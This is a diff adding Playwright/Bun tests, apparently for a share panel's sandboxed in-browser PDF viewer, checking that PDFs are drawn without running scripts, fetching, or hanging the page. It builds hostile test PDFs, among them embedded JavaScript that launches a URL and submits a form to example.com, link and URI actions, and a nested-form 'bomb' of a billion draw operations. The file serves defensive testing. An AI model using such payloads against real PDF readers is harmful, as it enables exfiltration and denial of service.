@@ -1,0 +1,172 @@
+/** PDF in the pages of shares, drawn in Chromium by our viewer: nothing of a PDF runs or fetches, and none hangs the page. */
+import { afterAll, beforeAll, expect, test } from "bun:test";
+import type { Frame, Page } from "playwright-core";
+import { CHROMIUM } from "./support/chromium.ts";
+import { driveClient } from "./support/drive.ts";
+import { startPanel } from "./support/panel.ts";
+
+const isRequired = process.env["WAYMARK_TEST_REQUIRE_SERVICES"] === "1";
+
+let started: Awaited<ReturnType<typeof startPanel>>;
+let me: ReturnType<typeof driveClient>;
+beforeAll(async () => {
+  started = await startPanel();
+  me = driveClient(started.server.url, started.client.token);
+});
+afterAll(() => started.stop());
+
+type Entries = {
+  catalog?: string;
+  page?: string;
+  content?: string;
+  pages?: number;
+  more?: readonly string[];
+};
+
+/** Objects from 5 on are `more`. Without a table of places: readers build it. */
+function pdfOf({ catalog = "", page = "", content = "", more = [] }: Entries): string {
+  const objects = [
+    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
+    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
+    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R${page}>>`,
+    `<</Length ${content.length}>>stream\n${content}\nendstream`,
+    ...more,
+  ];
+  const body = objects.map((text, at) => `${at + 1} 0 obj\n${text}\nendobj`).join("\n");
+  return `%PDF-1.7\n${body}\ntrailer\n<</Root 1 0 R/Size ${objects.length + 1}>>\n%%EOF\n`;
+}
+
+const RED = "1 0 0 rg 0 0 200 200 re f";
+
+let reports = 0;
+async function shareOf(content: string, input = {}): Promise<string> {
+  const { body } = await me.upload(`report ${++reports}.pdf`, content, { type: "application/pdf" });
+  return (await me.call("POST", `/files/${body.data.id}/share`, input)).body.data.url;
+}
+
+async function visit(address: string) {
+  const opened = await started.open(new URL(address).pathname);
+  const requests: string[] = [];
+  opened.page.on("request", (request) => requests.push(request.url()));
+  return { ...opened, requests };
+}
+
+async function frameOf(page: Page): Promise<Frame> {
+  const element = await page.locator("figure iframe").elementHandle();
+  return (await element!.contentFrame())!;
+}
+
+/** Red, green and blue of the middle of the first page, once it is drawn. */
+async function middleOf(frame: Frame): Promise<number[]> {
+  await frame.locator("canvas").first().waitFor();
+  return frame.evaluate(() => {
+    const canvas = document.querySelector("canvas")!;
+    const { data } = canvas.getContext("2d")!.getImageData(canvas.width / 2, canvas.height / 2, 1, 1);
+    return [...data.subarray(0, 3)];
+  });
+}
+
+test.skipIf(CHROMIUM === null && !isRequired)(
+  "a PDF is drawn without its scripts, links and forms, and fetches nothing",
+  async () => {
+    const script =
+      "app.launchURL('https://example.com/launched');this.submitForm('https://example.com/sent')";
+    const address = await shareOf(
+      pdfOf({
+        content: RED,
+        catalog: `/OpenAction<</S/JavaScript/JS(${script})>>/AcroForm<</Fields[5 0 R]/CO[5 0 R]>>/AA<</WC<</S/JavaScript/JS(${script})>>>>`,
+        page: `/Annots[5 0 R 6 0 R 7 0 R]/AA<</O<</S/URI/URI(https://example.com/opened)>>>>`,
+        more: [
+          `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(b)/Rect[0 0 200 200]/AA<</C<</S/JavaScript/JS(${script})>>>>>>`,
+          "<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(https://example.com/link)>>>>",
+          "<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</Type/Filespec/FS/URL/F(https://example.com/file)>>>>",
+        ],
+      }),
+      { password: "a good password" },
+    );
+    const { page, requests, complaints, close } = await visit(address);
+    complaints.length = 0;
+    await page.getByLabel("Password").fill("a good password");
+    await page.getByRole("button", { name: "Open" }).click();
+    const frame = await frameOf(page);
+    expect(await middleOf(frame)).toEqual([255, 0, 0]);
+    await frame.getByRole("img", { name: "Page 1 of 1" }).click();
+    expect(await frame.locator("a, input, form, object, embed").count()).toBe(0);
+    expect(await frame.evaluate(() => [self.origin, document.title])).toEqual(["null", "PDF"]);
+    const refused = await frame.evaluate(async (target) => {
+      const tries = [async () => fetch(target), async () => document.cookie, async () => localStorage.length];
+      return Promise.all(
+        tries.map((attempt) =>
+          attempt().then(
+            () => "done",
+            () => "refused",
+          ),
+        ),
+      );
+    }, `${address}?download=1`);
+    expect(refused).toEqual(["refused", "refused", "refused"]);
+    expect(requests.filter((url) => !url.startsWith(started.origin) && !url.startsWith("blob:"))).toEqual([]);
+    expect(page.url()).toBe(started.origin + new URL(address).pathname);
+    expect(await page.locator(".no-pdf").isVisible()).toBe(false);
+    const bytes = requests.filter((url) => url.includes("preview="));
+    expect(bytes).toHaveLength(1);
+    expect((await me.call("GET", `/shares${new URL(address).pathname}`)).body.data.downloads).toBe(0);
+    await close();
+  },
+);
+
+test.skipIf(CHROMIUM === null && !isRequired)(
+  "what is no PDF, or never ends, leaves the sentence and a page that answers",
+  async () => {
+    const noPdf = await visit(await shareOf("%PDF-1.7\nnothing that could be drawn"));
+    await noPdf.page.locator(".no-pdf").waitFor();
+    await noPdf.close();
+    // Each form draws the next one ten times: 10^9 rectangles.
+    const forms = Array.from({ length: 10 }, (_, level) => {
+      const content = level === 9 ? RED : "/F Do ".repeat(10);
+      return `<</Type/XObject/Subtype/Form/BBox[0 0 200 200]/Resources<</XObject<</F ${level + 6} 0 R>>>>/Length ${content.length}>>stream\n${content}\nendstream`;
+    });
+    const bomb = pdfOf({ content: "/F Do", page: "/Resources<</XObject<</F 5 0 R>>>>", more: forms });
+    const { page, close } = await visit(await shareOf(bomb));
+    await page.locator("figure iframe").waitFor();
+    await page.locator(".no-pdf").waitFor({ timeout: 90_000 });
+    expect(await page.locator("iframe").count()).toBe(0);
+    expect(await page.evaluate(() => 6 * 7)).toBe(42);
+    await close();
+  },
+  180_000,
+);
+
+test("the viewer is a document without origin that a browser keeps; without it the page has its sentence", async () => {
+  const address = await shareOf(pdfOf({ content: RED }));
+  const html = await (
+    await fetch(address, { headers: { Accept: "text/html", "User-Agent": "Mozilla/5.0 Chrome/140.0" } })
+  ).text();
+  expect(html).toContain('<p class="soft say no-pdf">');
+  expect(html).toMatch(/<figure class="view" hidden /);
+  const viewer = /data-viewer="(\?viewer=[^"]+)"/.exec(html)![1]!;
+  const answer = await fetch(address + viewer);
+  expect([answer.status, answer.headers.get("content-encoding")]).toEqual([200, "gzip"]);
+  expect(answer.headers.get("cache-control")).toContain("immutable");
+  const policy = answer.headers.get("content-security-policy")!;
+  expect(policy).toStartWith(
+    "sandbox allow-scripts; default-src 'none'; script-src 'wasm-unsafe-eval' 'sha256-",
+  );
+  expect(policy).not.toMatch(/unsafe-inline|unsafe-eval'(?!.)|connect-src|'self'(?!$)/);
+  const plain = await fetch(address + viewer, { headers: { "Accept-Encoding": "identity" } });
+  expect(plain.headers.get("content-encoding")).toBeNull();
+  expect(await plain.text()).toBe(await answer.text());
+  const others = await fetch(address, {
+    headers: { Accept: "text/html", "User-Agent": "Gecko Firefox/140.0" },
+  });
+  expect(await others.text()).not.toContain("viewer=");
+  // Bytes for a script of the same site only.
+  const asked = async (site: string) =>
+    (
+      await fetch(`${address}?preview=1`, {
+        headers: { "Sec-Fetch-Dest": "empty", "Sec-Fetch-Site": site, "Accept-Encoding": "identity" },
+      })
+    ).headers.get("content-type");
+  expect(await asked("same-origin")).toBe("application/pdf");
+  expect(await asked("cross-site")).toStartWith("text/html");
+});
